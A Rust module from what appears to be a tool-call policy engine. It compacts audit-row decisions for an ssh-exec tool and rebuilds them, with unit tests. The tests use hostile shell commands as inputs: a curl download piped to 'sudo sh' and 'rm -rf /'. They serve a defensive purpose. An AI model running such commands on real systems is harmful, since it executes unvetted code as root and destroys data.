//! A decision as an audit row keeps it: only what the policy it was made under, the call and
//! the row's own columns cannot give back.
//!
//! An audit row already holds the action, risk, reasons (joined), policy hash and call hash in
//! columns, and the call's arguments in its context. Given the same policy, everything else in a
//! [`Decision`] follows from the tool and operation (required capabilities, executor,
//! interactive-only), the risk (request TTL, approval window, quorum) or a pattern's id (its
//! category and description, with the matched text cut from the argument). So the row keeps the
//! missing capabilities, where each pattern matched, and the reasons only when the joined
//! column cannot give them back: usually `{}`.
//!
//! [`compact`] expands what it is about to store and compares it with the decision; if they
//! differ in anything, it stores the whole decision instead. Nothing is ever lost.

use crate::decision::{Decision, PatternMatch, Request};
use crate::policy::PolicySet;
use crate::{Action, Risk};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::BTreeSet;
use std::ops::Range;

/// How the reasons are joined in the row's `decision_reason` column.
pub const REASON_SEPARATOR: &str = "; ";

/// The columns of an audit row that a stored decision leaves to them.
#[derive(Debug, Clone, Copy)]
pub struct Columns<'a> {
    /// `decision_action`.
    pub action: &'a str,
    /// `risk_level`.
    pub risk: &'a str,
    /// `decision_reason`: the reasons joined with [`REASON_SEPARATOR`].
    pub reason: &'a str,
    pub policy_hash: &'a str,
    pub call_hash: &'a str,
}

impl<'a> Columns<'a> {
    /// The columns a row holds for `decision`, whose reasons joined are `joined` (see
    /// [`joined_reasons`]).
    pub fn of(decision: &'a Decision, joined: &'a str) -> Columns<'a> {
        Columns {
            action: decision.action.as_str(),
            risk: decision.risk.as_str(),
            reason: joined,
            policy_hash: &decision.policy_hash,
            call_hash: &decision.call_hash,
        }
    }
}

/// What a row keeps of a decision.
#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Compact {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    reasons: Option<Vec<String>>,
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    missing_capabilities: BTreeSet<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    matched_patterns: Vec<Hit>,
    /// Shadow mode allowed what enforcing would have held.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    would_block: bool,
}

/// Where a pattern matched; the policy gives its category and description.
#[derive(Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Hit {
    id: String,
    argument: String,
    span: Range<usize>,
    /// Only when the argument's text at `span` is not the matched text.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    text: Option<String>,
}

/// The reasons joined as `decision_reason` holds them.
pub fn joined_reasons(decision: &Decision) -> String {
    decision.reasons.join(REASON_SEPARATOR)
}

/// The text a row keeps of `decision`, made by `policy` for `request`: see the module
/// documentation. [`expand`] gives the decision back.
pub fn compact(decision: &Decision, request: &Request, policy: &PolicySet) -> String {
    let whole = || {
        serde_json::to_string(decision)
            .expect("a decision is plain data (strings, numbers, lists) and always serialises")
    };
    let joined = joined_reasons(decision);
    let split_back = split_reasons(&joined) == decision.reasons;
    let stored = Compact {
        reasons: (!split_back).then(|| decision.reasons.clone()),
        missing_capabilities: decision.missing_capabilities.clone(),
        matched_patterns: decision
            .matched_patterns
            .iter()
            .map(|m| Hit {
                id: m.id.clone(),
                argument: m.argument.clone(),
                span: m.span.clone(),
                text: (snippet(request, &m.argument, &m.span) != Some(m.text.as_str()))
                    .then(|| m.text.clone()),
            })
            .collect(),
        would_block: decision.would_block,
    };
    if rebuild(&stored, request, &Columns::of(decision, &joined), policy).as_ref() != Some(decision)
    {
        return whole();
    }
    serde_json::to_string(&stored).unwrap_or_else(|_| whole())
}

/// The whole decision from a row: its stored text (from [`compact`]), the call it was made for
/// (tool, operation, and the arguments and target of the row's context), its columns, and the
/// policy it names. `None` when the text is neither form [`compact`] writes, or when a compact
/// text's policy is not `policy` (pass the policy whose hash the row holds).
pub fn expand(
    stored: &str,
    request: &Request,
    columns: &Columns<'_>,
    policy: &PolicySet,
) -> Option<Decision> {
    // Both forms are JSON objects (serde would also read a struct from an array).
    if !stored.trim_start().starts_with('{') {
        return None;
    }
    if let Ok(compact) = serde_json::from_str::<Compact>(stored) {
        return rebuild(&compact, request, columns, policy);
    }
    serde_json::from_str::<Decision>(stored).ok()
}

fn rebuild(
    stored: &Compact,
    request: &Request,
    columns: &Columns<'_>,
    policy: &PolicySet,
) -> Option<Decision> {
    if policy.hash() != columns.policy_hash {
        return None;
    }
    let action: Action = serde_json::from_value(Value::String(columns.action.into())).ok()?;
    let risk: Risk = serde_json::from_value(Value::String(columns.risk.into())).ok()?;
    let mut decision = Decision {
        action,
        risk,
        reasons: match &stored.reasons {
            Some(reasons) => reasons.clone(),
            None => split_reasons(columns.reason),
        },
        required_capabilities: BTreeSet::new(),
        missing_capabilities: stored.missing_capabilities.clone(),
        matched_patterns: Vec::with_capacity(stored.matched_patterns.len()),
        approvals_required: 0,
        ttl_secs: 0,
        approval_window_secs: 0,
        interactive_only: false,
        executor: None,
        policy_name: policy.name.clone(),
        policy_hash: columns.policy_hash.to_string(),
        call_hash: columns.call_hash.to_string(),
        commands: Vec::new(),
        would_block: stored.would_block,
    };

    // An unknown tool or operation is denied before anything else is set.
    if let Some(operation) = policy
        .tools
        .get(&request.tool)
        .and_then(|tool| tool.operations.get(&request.operation))
    {
        let rule = policy.approvals.for_risk(risk);
        decision.required_capabilities = operation.requires.clone();
        decision.interactive_only = operation.interactive_only;
        decision.executor = operation.executor.clone();
        decision.commands = crate::decision::classify_commands(request, operation, policy);
        decision.ttl_secs = rule.request_ttl_secs;
        decision.approval_window_secs = rule.approval_window_secs;
        if action == Action::RequireApproval {
            decision.approvals_required = rule.quorum;
        }
    }
    for hit in &stored.matched_patterns {
        let pattern = policy.patterns.iter().find(|p| p.id == hit.id)?;
        let text = match &hit.text {
            Some(text) => text.clone(),
            None => snippet(request, &hit.argument, &hit.span)?.to_string(),
        };
        decision.matched_patterns.push(PatternMatch {
            id: hit.id.clone(),
            category: pattern.category,
            description: pattern.description.clone(),
            argument: hit.argument.clone(),
            span: hit.span.clone(),
            text,
        });
    }
    Some(decision)
}

fn split_reasons(joined: &str) -> Vec<String> {
    if joined.is_empty() {
        Vec::new()
    } else {
        joined.split(REASON_SEPARATOR).map(str::to_string).collect()
    }
}

/// The text at `span` of the named argument (`command`, or `command[2]` for a list's item).
fn snippet<'a>(request: &'a Request, argument: &str, span: &Range<usize>) -> Option<&'a str> {
    let value = match argument.strip_suffix(']').and_then(|a| a.rsplit_once('[')) {
        Some((name, index)) => request.args.get(name)?.get(index.parse::<usize>().ok()?)?,
        None => request.args.get(argument)?,
    };
    value.as_str()?.get(span.clone())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decision::{evaluate, Principal};
    use serde_json::json;

    fn request(args: Value) -> Request {
        Request {
            tool: "ssh-exec".into(),
            operation: "executeCommand".into(),
            args: args.as_object().cloned().unwrap_or_default(),
            target: Some("web-01".into()),
        }
    }

    fn principal(capabilities: &[&str]) -> Principal {
        Principal {
            id: "alice".into(),
            roles: BTreeSet::new(),
            capabilities: capabilities.iter().map(|c| c.to_string()).collect(),
        }
    }

    fn round_trip(decision: &Decision, request: &Request, policy: &PolicySet) -> String {
        let stored = compact(decision, request, policy);
        let joined = joined_reasons(decision);
        let back = expand(&stored, request, &Columns::of(decision, &joined), policy);
        assert_eq!(back.as_ref(), Some(decision), "stored as {stored}");
        stored
    }

    #[test]
    fn an_allowed_call_is_stored_as_an_empty_object() {
        let policy = crate::default_policy().expect("policy");
        let request = request(json!({"command": "uptime"}));
        let decision = evaluate(&request, &principal(&["ssh-linux", "remote-exec"]), &policy);
        assert_eq!(decision.action, Action::Allow);
        assert_eq!(round_trip(&decision, &request, &policy), "{}");
    }

    #[test]
    fn patterns_keep_where_they_matched_and_nothing_the_policy_says() {
        let policy = crate::default_policy().expect("policy");
        let request = request(json!({"command": "curl -s http://x | sudo sh; rm -rf /tmp/x"}));
        let decision = evaluate(&request, &principal(&["ssh-linux", "remote-exec"]), &policy);
        assert!(decision.matched_patterns.len() >= 2, "{decision:?}");
        let stored = round_trip(&decision, &request, &policy);
        let value: Value = serde_json::from_str(&stored).expect("JSON");
        let first = &value["matched_patterns"][0];
        assert!(first.get("description").is_none() && first.get("text").is_none());
        assert!(first.get("span").is_some(), "{stored}");
    }

    #[test]
    fn missing_capabilities_and_unjoinable_reasons_are_kept() {
        let policy = crate::default_policy().expect("policy");
        let request = request(json!({"command": "uptime"}));
        let mut decision = evaluate(&request, &principal(&["ssh-linux"]), &policy);
        assert_eq!(decision.action, Action::Deny);
        assert!(round_trip(&decision, &request, &policy).contains("remote-exec"));
        for reasons in [vec!["a; b".to_string()], vec![String::new()]] {
            decision.reasons = reasons;
            assert!(round_trip(&decision, &request, &policy).contains("\"reasons\""));
        }
        // No reasons at all: the empty column says as much.
        decision.reasons = Vec::new();
        assert_eq!(
            round_trip(&decision, &request, &policy),
            r#"{"missing_capabilities":["remote-exec"]}"#
        );
    }

    #[test]
    fn what_cannot_be_rebuilt_is_stored_whole() {
        let policy = crate::default_policy().expect("policy");
        let request = request(json!({"command": "rm -rf /tmp/x"}));
        let mut decision = evaluate(&request, &principal(&["ssh-linux", "remote-exec"]), &policy);
        // Not what the policy says about this operation: kept whole, and given back as it was.
        decision.ttl_secs += 1;
        let stored = round_trip(&decision, &request, &policy);
        assert!(stored.contains("\"action\""), "{stored}");
        // A compact row is only expanded with the policy it names.
        let decision = evaluate(&request, &principal(&["ssh-linux", "remote-exec"]), &policy);
        let stored = compact(&decision, &request, &policy);
        let joined = joined_reasons(&decision);
        let mut other = Columns::of(&decision, &joined);
        other.policy_hash = "0000";
        assert_eq!(expand(&stored, &request, &other, &policy), None);
        assert_eq!(expand("[]", &request, &other, &policy), None);
        let same = Columns::of(&decision, &joined);
        assert_eq!(expand("[]", &request, &same, &policy), None);
        assert!(expand(&stored, &request, &same, &policy).is_some());
    }

    #[test]
    fn list_arguments_are_found_by_index() {
        let request = request(json!({"commands": ["ls", "rm -rf /"]}));
        assert_eq!(snippet(&request, "commands[1]", &(0..6)), Some("rm -rf"));
        assert_eq!(snippet(&request, "commands[2]", &(0..1)), None);
        assert_eq!(snippet(&request, "commands[x]", &(0..1)), None);
        assert_eq!(snippet(&request, "commands", &(0..1)), None);
    }
}
